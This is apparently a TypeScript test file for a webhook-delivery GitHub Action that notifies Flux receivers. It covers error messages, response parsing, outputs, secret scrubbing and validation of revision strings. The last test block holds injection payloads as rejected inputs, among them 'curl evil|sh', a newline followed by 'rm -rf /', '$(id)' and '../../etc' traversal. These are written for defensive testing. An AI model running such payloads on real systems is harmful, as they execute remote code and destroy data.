import { describe, expect, test } from "bun:test";
import type { AttemptRecord, Outcome } from "../../action/deliver";
import { MAX_RESPONSE_BYTES } from "../../action/transport";
import {
  bodyExcerpt,
  failureMessage,
  MAX_RESPONSE_OUTPUT_CHARS,
  outputsFor,
  receiverReason,
  receiverTargets,
  revisionOutput,
  MAX_REVISION_CHARS,
  scrub,
  stepOutputs,
  summaryTable,
  type ReportContext,
} from "../../action/report";
import type { ErrorCategory, SendResult } from "../../action/vocabulary";

const URL_ = "https://flux.corp.internal/hook/0123abcd";
const BY_NAME: ReportContext = {
  url: URL_,
  target: { kind: "receiver", address: "https://flux.corp.internal", receiver: "app", namespace: "apps" },
  event: "push",
  receiverType: "github",
  timeoutMs: 10_000,
};
const BY_URL: ReportContext = { ...BY_NAME, target: { kind: "url" } };

const http = (status: number, body = "", headers: Record<string, string> = {}): SendResult => ({
  kind: "response",
  status,
  headers,
  body,
  bodyTruncated: false,
});
const net = (category: ErrorCategory, code: string): SendResult => ({
  kind: "error",
  error: { category, code, message: `${code} message`, retryable: false },
});
const failed = (results: SendResult[], kind: "status" | "network" | "redirect" | "retry-after-too-long"): Outcome => {
  const last = results[results.length - 1] as SendResult;
  return {
    ok: false,
    kind,
    status: last.kind === "response" ? last.status : undefined,
    attempts: results.map((result, i): AttemptRecord => ({ attempt: i + 1, result, durationMs: 5 })),
    durationMs: 1234,
  };
};

describe("failureMessage says what to check", () => {
  test.each([
    {
      name: "404 by name",
      ctx: BY_NAME,
      outcome: failed([http(404)], "status"),
      has: [
        'receiver "app" and namespace "apps"',
        "kubectl -n apps get receiver app",
        "sha256(token + name + namespace)",
      ],
    },
    {
      name: "404 by url",
      ctx: BY_URL,
      outcome: failed([http(404)], "status"),
      has: ["status.webhookPath", "kubectl get receivers -A"],
    },
    {
      name: "400 with fluxhook's reason",
      ctx: BY_NAME,
      outcome: failed([http(400, '{"reason":"the GitHub event \\"push\\" is not authorised"}')], "status"),
      has: ["signature", "spec.events", 'The receiver said: "the GitHub event "push" is not authorised"'],
    },
    {
      name: "400 from Flux (no body)",
      ctx: BY_NAME,
      outcome: failed([http(400)], "status"),
      has: ['receiver-type "github"', '"push" must be in the Receiver\'s spec.events'],
    },
    {
      name: "503",
      ctx: BY_NAME,
      outcome: failed([http(503), http(503)], "status"),
      has: ["suspended or not Ready", "after 2 attempts"],
    },
    { name: "500", ctx: BY_NAME, outcome: failed([http(500)], "status"), has: ["spec.resources"] },
    { name: "413", ctx: BY_NAME, outcome: failed([http(413)], "status"), has: ["3 MiB"] },
    { name: "403", ctx: BY_NAME, outcome: failed([http(403)], "status"), has: ["ingress"] },
    {
      name: "refused",
      ctx: BY_NAME,
      outcome: failed([net("refused", "ECONNREFUSED")], "network"),
      has: ["flux.corp.internal:443", "Check the network path"],
    },
    {
      name: "dns",
      ctx: BY_NAME,
      outcome: failed([net("dns", "ENOTFOUND")], "network"),
      has: ['cannot resolve "flux.corp.internal"'],
    },
    {
      name: "timeout",
      ctx: BY_NAME,
      outcome: failed([net("timeout", "TimeoutError")], "network"),
      has: ["within 10 s", "timeout-seconds"],
    },
    {
      name: "untrusted",
      ctx: BY_NAME,
      outcome: failed([net("tls-verify", "SELF_SIGNED_CERT_IN_CHAIN")], "network"),
      has: ["`ca-file`"],
    },
    {
      name: "wrong name",
      ctx: BY_NAME,
      outcome: failed([net("tls-verify", "ERR_TLS_CERT_ALTNAME_INVALID")], "network"),
      has: ['does not name "flux.corp.internal"'],
    },
    {
      name: "handshake",
      ctx: BY_NAME,
      outcome: failed([net("tls", "EPROTO")], "network"),
      has: ["plain-HTTP port", "`client-cert`"],
    },
    { name: "proxy", ctx: BY_NAME, outcome: failed([net("proxy", "PROXY_407")], "network"), has: ["NO_PROXY"] },
    {
      name: "redirect",
      ctx: BY_NAME,
      outcome: failed([http(301, "", { location: "https://flux.corp.internal/hook/0123abcd/" })], "redirect"),
      has: ["redirected (301) to https://flux.corp.internal/hook/***", "not followed for a POST"],
    },
    {
      name: "retry-after too long",
      ctx: BY_NAME,
      outcome: failed([http(429)], "retry-after-too-long"),
      has: ["later than the 60 s this action waits", "Re-run the job"],
      hasNot: ["retries"],
    },
    {
      name: "generic-oidc 404: the path has no token",
      ctx: { ...BY_NAME, receiverType: "generic-oidc" },
      outcome: failed([http(404)], "status"),
      has: ["sha256(name + namespace)"],
      hasNot: ["token equals"],
    },
    {
      name: "generic-oidc 400: the ID token",
      ctx: { ...BY_NAME, receiverType: "generic-oidc" },
      outcome: failed([http(400, '{"reason":"token validation failed: wrong repository"}')], "status"),
      has: ["refused the ID token", "`oidc-audience`", "wrong repository"],
    },
    {
      name: "client certificate required",
      ctx: BY_NAME,
      outcome: failed([net("tls-client-cert", "UND_ERR_SOCKET")], "network"),
      has: ["`client-cert` and `client-key`"],
    },
  ])(
    "$name",
    ({
      ctx,
      outcome,
      has,
      hasNot,
    }: {
      ctx: ReportContext;
      outcome: Outcome;
      has: readonly string[];
      hasNot?: readonly string[];
    }) => {
      const message = failureMessage(outcome, ctx);
      for (const part of has) expect(message).toContain(part);
      for (const part of hasNot ?? []) expect(message).not.toContain(part);
      expect(message).not.toContain("0123abcd");
    },
  );

  test("success has no message", () => {
    expect(failureMessage({ ok: true, status: 200, attempts: [], durationMs: 1 }, BY_NAME)).toBe("");
  });
});

describe("receiverReason", () => {
  test.each([
    ["", undefined],
    ["   ", undefined],
    ['{"reason":"signature mismatch"}', "signature mismatch"],
    ['{"error":{"message":"nested"}}', "nested"],
    ['{"message":"m","error":"e"}', "m"],
    ['"a JSON string"', "a JSON string"],
    ["404 page not found\n", "404 page not found"],
    ["line one\nline two", "line one"],
    ["<html><body>nginx</body></html>", undefined],
    ["x".repeat(400), `${"x".repeat(300)}… (truncated, 400 characters)`],
  ])("%p → %p", (body, reason) => {
    expect(receiverReason(body)).toBe(reason);
  });
});

describe("receiverTargets", () => {
  test.each([
    ["", []],
    ["not json", []],
    ['{"reason":"ok"}', []],
    [
      '{"status":200,"reason":"1 of 2 targets annotated","targets":[{"kind":"GitRepository","namespace":"flux-system","name":"webapp","outcome":"annotated"},{"kind":"Kustomization","namespace":"apps","name":"*","outcome":"skipped","reason":"no match"},7]}',
      ["GitRepository flux-system/webapp: annotated", "Kustomization apps/*: skipped"],
    ],
  ])("%p", (body, targets) => {
    expect(receiverTargets(body)).toEqual(targets);
  });
});

describe("outputs and summary", () => {
  test("outputs of a success", () => {
    const outcome: Outcome = {
      ok: true,
      status: 200,
      attempts: [{ attempt: 1, result: http(200, "ok"), durationMs: 3 }],
      durationMs: 3,
    };
    expect(outputsFor(BY_NAME, "id-1", outcome)).toEqual({
      status: "200",
      "delivery-id": "id-1",
      attempts: "1",
      response: "ok",
      url: "https://flux.corp.internal/hook/***",
      results: '[{"receiver":"apps/app","status":200,"delivery-id":"id-1","attempts":1}]',
    });
  });

  test("several deliveries: results lists each; the single outputs describe the first failure", () => {
    const ok: Outcome = {
      ok: true,
      status: 200,
      attempts: [{ attempt: 1, result: http(200), durationMs: 3 }],
      durationMs: 3,
    };
    const other = { ...BY_NAME, target: { ...BY_NAME.target, receiver: "other" } as ReportContext["target"] };
    const outputs = stepOutputs([
      { ctx: BY_NAME, deliveryId: "id-a", outcome: ok },
      { ctx: other, deliveryId: "id-b", outcome: failed([http(503), http(503)], "status") },
    ]);
    expect(JSON.parse(outputs.results)).toEqual([
      { receiver: "apps/app", status: 200, "delivery-id": "id-a", attempts: 1 },
      { receiver: "apps/other", status: 503, "delivery-id": "id-b", attempts: 2 },
    ]);
    expect(outputs).toMatchObject({ status: "503", "delivery-id": "id-b", attempts: "2" });
    const dry = stepOutputs([{ ctx: BY_URL, deliveryId: "id-c", outcome: undefined }]);
    expect(JSON.parse(dry.results)).toEqual([
      { receiver: "https://flux.corp.internal/hook/***", status: null, "delivery-id": "id-c", attempts: 0 },
    ]);
  });

  test("a body cut at the read cap: the note gives the body's own size", () => {
    const big = { ...(http(500, "z".repeat(MAX_RESPONSE_BYTES)) as object), bodyTruncated: true, bodyBytes: 200_000 };
    expect(bodyExcerpt(big as never, 10)).toBe(`${"z".repeat(10)}… (truncated: the answer has 200000 bytes)`);
    const unknown = { ...(http(500, "z".repeat(MAX_RESPONSE_BYTES)) as object), bodyTruncated: true };
    expect(bodyExcerpt(unknown as never, 10)).toContain(`more than ${MAX_RESPONSE_BYTES} bytes`);
    const short = { ...(http(500, "z".repeat(20)) as object), bodyBytes: 20 };
    expect(bodyExcerpt(short as never, 10)).toContain("the answer has 20 bytes");
  });

  test("a body cut off before its end (a stall, a reset): the note says so, not that it is long", () => {
    const cut = { ...(http(200, "{") as object), bodyTruncated: true, bodyCut: true, bodyBytes: 100 };
    expect(bodyExcerpt(cut as never, 10)).toBe("{… (cut off after 1 of its 100 bytes)");
    const undeclared = { ...(http(200, `{"status":200`) as object), bodyTruncated: true, bodyCut: true };
    expect(bodyExcerpt(undeclared as never, 10)).toBe(`{"status":… (cut off after 13 bytes)`);
  });

  test("outputs of a network failure and of a dry run", () => {
    expect(outputsFor(BY_NAME, "id-2", failed([net("refused", "ECONNREFUSED")], "network"))).toMatchObject({
      status: "",
      attempts: "1",
      response: "",
    });
    expect(outputsFor(BY_NAME, "id-3", undefined)).toMatchObject({ status: "", attempts: "0", response: "" });
  });

  test("the response output is truncated", () => {
    const outcome = failed([http(500, "y".repeat(MAX_RESPONSE_OUTPUT_CHARS + 10))], "status");
    expect(outputsFor(BY_NAME, "id", outcome).response).toStartWith(
      `${"y".repeat(MAX_RESPONSE_OUTPUT_CHARS)}… (truncated`,
    );
  });

  test("summary table, without the digest", () => {
    const outcome = failed([http(503), http(200)], "status");
    expect(
      summaryTable(
        [{ ctx: BY_NAME, deliveryId: "id-4", outcome: { ...outcome, ok: true, status: 200 } as Outcome }],
        false,
      ),
    ).toEqual([
      ["Receiver", "Event", "Delivery ID", "Status", "Attempts", "Duration", "Result"],
      ["apps/app at https://flux.corp.internal/hook/***", "push", "id-4", "200", "2", "1.23 s", "✅ delivered"],
    ]);
    expect(summaryTable([{ ctx: BY_URL, deliveryId: "id-5", outcome: undefined }], true)[1]).toEqual([
      "https://flux.corp.internal/hook/***",
      "push",
      "id-5",
      "dry run: not sent",
      "0",
      "—",
      "—",
    ]);
  });

  test("scrub replaces secrets, longest first", () => {
    expect(scrub("path /hook/abcdef and token abcd and abc", ["abcd", "/hook/abcdef", "abc"])).toBe(
      "path *** and token *** and abc",
    );
  });
});

describe("revisionOutput: only Flux's revision shapes become the output", () => {
  const SHA1 = "3b9c0f3a1d2e4b5c6d7e8f9a0b1c2d3e4f5a6b7c";
  const SHA256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
  test.each([
    `main@sha1:${SHA1}`,
    `refs/heads/feature/x-1@sha1:${SHA1}`,
    `v1.2.3@sha256:${SHA256}`,
    `sha256:${SHA256}`,
    `main@sha256:${SHA256}`,
    `feature_x@sha1:${SHA1}`,
    `release/1.x@sha1:${SHA1}`,
    "6.5.0",
    "1.2.3-rc.1+2aedd8e4b9b6",
  ])("%s is set", (revision) => {
    expect(revisionOutput(revision)).toEqual({ ok: true });
  });

  test.each([
    ["a command substitution", `main$(id)@sha1:${SHA1}`],
    ["an expression", `\${{ github.token }}@sha1:${SHA1}`],
    ["quotes and a semicolon", `x";curl evil|sh;"@sha1:${SHA1}`],
    ["a new line", `main@sha1:${SHA1}\nrm -rf /`],
    ["a short checksum", "main@sha1:abc"],
    ["upper-case hex", `main@sha1:${SHA1.toUpperCase()}`],
    ["the pre-RFC-0005 form", `main/${SHA1}`],
    ["too long", `${"a".repeat(MAX_REVISION_CHARS)}@sha1:${SHA1}`],
    // No Git ref has a `..`, a component starting with `.`, or an empty component (git check-ref-format).
    ["a .. path segment", `main/../../etc@sha1:${SHA1}`],
    ["a .. at the end", `main/..@sha1:${SHA1}`],
    ["a .. inside a component", `main..evil@sha1:${SHA1}`],
    ["a component starting with a dot", `refs/.git/config@sha1:${SHA1}`],
    ["an empty component", `refs//main@sha1:${SHA1}`],
    ["empty", ""],
  ])("%s is left out, with a warning", (_name, revision) => {
    const checked = revisionOutput(revision);
    expect(checked.ok).toBe(false);
    if (!checked.ok) {
      expect(checked.warning).toStartWith("The `revision` output is not set");
      expect(checked.warning).not.toMatch(/[\n\r]/);
    }
  });
});
